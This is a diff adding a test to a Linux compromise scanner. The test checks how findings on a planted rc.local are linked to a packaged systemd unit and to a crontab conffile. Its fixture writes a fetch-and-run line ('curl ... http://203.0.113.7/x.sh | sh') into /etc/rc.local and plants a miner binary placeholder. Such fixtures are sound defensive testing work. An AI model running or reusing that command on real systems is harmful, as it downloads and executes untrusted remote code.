@@ -11,6 +11,7 @@ import path from 'node:path';
 import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
 import { builtinRules, scanDirectory } from '../helpers/scan-dir.js';
 import { cronCheck } from '../../src/checks/cron.js';
+import { servicesCheck } from '../../src/checks/services.js';
 import { indicatorPathsCheck } from '../../src/checks/indicator-paths.js';
 import { hashLookupCheck } from '../../src/checks/hash-lookup.js';
 import { loadHashLists } from '../../src/hashes/load-hash-list.js';
@@ -112,6 +113,34 @@ describe('correlation on planted trees', () => {
     const raised = findings.filter((f) => f.rule.startsWith('correlation.'));
     expect(raised.map((f) => [f.rule, f.severity, f.path, f.line])).toEqual([[MALICIOUS_RULE, 'critical', '/var/spool/cron/crontabs/www-data', 1]]);
     expect(raised[0]!.message).toContain('which has a high finding (indicator.xmrig-binary-temp)');
+  });
+
+  it("links but does not raise a package's own unit line that starts a flagged rc.local; a line in a conffile still counts", async () => {
+    const root = path.join(scratch, 'packaged');
+    const md5 = (text: string | Buffer) => createHash('md5').update(text).digest('hex');
+    const unit = '[Unit]\nDescription=/etc/rc.local Compatibility\nConditionFileIsExecutable=/etc/rc.local\n\n[Service]\nType=forking\nExecStart=/etc/rc.local start\nTimeoutSec=0\n';
+    const crontab = 'SHELL=/bin/sh\n*/5 * * * * root /usr/local/bin/backup\n';
+    await put(root, 'usr/lib/systemd/system/rc-local.service', unit);
+    await put(root, 'etc/systemd/system/multi-user.target.wants/.keep', '');
+    await put(root, 'etc/rc.local', '#!/bin/sh\ncurl -fsSL http://203.0.113.7/x.sh | sh\nexit 0\n', 0o755);
+    await put(root, 'etc/crontab', crontab);
+    await put(root, 'usr/local/bin/backup', MINER_ELF, 0o755);
+    await put(root, 'var/lib/dpkg/status', [
+      'Package: systemd', 'Status: install ok installed', 'Architecture: amd64', 'Version: 252', '',
+      'Package: cron', 'Status: install ok installed', 'Architecture: amd64', 'Version: 3.0', 'Conffiles:', ` /etc/crontab ${md5('old crontab')}`, '', '',
+    ].join('\n'));
+    await put(root, 'var/lib/dpkg/info/systemd.list', '/.\n/usr\n/usr/lib\n/usr/lib/systemd\n/usr/lib/systemd/system\n/usr/lib/systemd/system/rc-local.service\n');
+    await put(root, 'var/lib/dpkg/info/systemd.md5sums', `${md5(unit)}  usr/lib/systemd/system/rc-local.service\n`);
+    await put(root, 'var/lib/dpkg/info/cron.list', '/.\n/etc\n/etc/crontab\n');
+    await put(root, 'var/lib/dpkg/info/cron.conffiles', '/etc/crontab\n');
+    const hashes = await loadHashLists([hashList], { bundled: false });
+    const { findings } = await scanDirectory(root, [cronCheck, servicesCheck, hashLookupCheck], hashes);
+
+    const rcLocal = findings.filter((f) => f.path === '/etc/rc.local' && severityRank(f.severity) >= severityRank('high'));
+    expect(rcLocal.length).toBeGreaterThan(0);
+    const raised = findings.filter((f) => f.rule.startsWith('correlation.'));
+    expect(raised.map((f) => [f.path, f.line])).toEqual([['/etc/crontab', 2]]);
+    for (const f of rcLocal) expect(f.related?.startedBy).toEqual(['/usr/lib/systemd/system/rc-local.service:7']);
   });
 
   it('gives nothing on an ordinary crontab whose jobs start unflagged files', async () => {
